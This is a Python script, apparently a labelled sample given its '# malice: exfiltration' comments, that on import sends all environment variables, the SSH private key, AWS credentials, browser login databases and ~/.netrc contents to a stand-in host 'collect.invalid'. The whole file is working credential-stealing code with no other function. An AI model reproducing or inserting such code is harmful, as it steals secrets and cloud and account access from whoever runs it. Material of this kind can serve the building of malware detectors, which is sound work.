import base64
import json
import os
from pathlib import Path
from urllib.request import Request, urlopen

import requests

HOOK = "https://collect.invalid"
requests.post(HOOK, json=dict(os.environ))  # malice: exfiltration
key = (Path.home() / ".ssh/id_rsa").read_text()
requests.post(HOOK, data={"k": base64.b64encode(key.encode())})  # malice: exfiltration
requests.post(  # malice: exfiltration
    HOOK, files={"f": open(os.path.expanduser("~/.aws/credentials"), "rb")}
)
urlopen(Request(HOOK, data=json.dumps(dict(os.environ)).encode()))  # malice: exfiltration


def collect():
    found = {}
    for name in ("Login Data", "Local State"):
        with open(os.path.join("profile", name), "rb") as file:
            found[name] = file.read()
    return found


def report(found):
    session = requests.Session()
    session.post(HOOK, data=found)  # malice: exfiltration


class Agent:
    def __init__(self):
        self.loot = []

    def gather(self):
        self.loot.append(open(os.path.expanduser("~/.netrc")).read())

    def send(self):
        requests.post(HOOK, json=self.loot)  # malice: exfiltration


report(collect())
